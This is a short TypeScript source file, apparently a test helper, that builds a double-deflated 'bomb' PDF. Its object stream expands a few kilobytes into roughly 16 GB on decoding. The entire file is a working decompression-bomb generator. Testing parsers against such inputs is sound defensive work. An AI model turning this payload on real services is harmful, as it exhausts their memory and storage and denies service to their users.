import { constants, deflateRawSync, deflateSync } from 'node:zlib';

/** A PDF of a few kilobytes whose first stream of objects unpacks, twice over, to more bytes than any server has. */
export function makeBombPdf(): Buffer {
  const part = deflateRawSync(Buffer.alloc(16 * 1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH });
  const zlibHead = Buffer.from([0x78, 0x9c]);
  const packed = deflateSync(Buffer.concat([zlibHead, ...Array.from({ length: 1000 }, () => part)]));
  const dict = `<</Type /ObjStm /N 1 /First 4 /Length ${packed.length} /Filter [/FlateDecode /FlateDecode]>>`;
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n${dict}\nstream\n`),
    packed,
    Buffer.from('\nendstream\nendobj\n2 0 obj\n<</Type /Catalog>>\nendobj\ntrailer\n<</Root 2 0 R>>\n%%EOF\n'),
  ]);
}
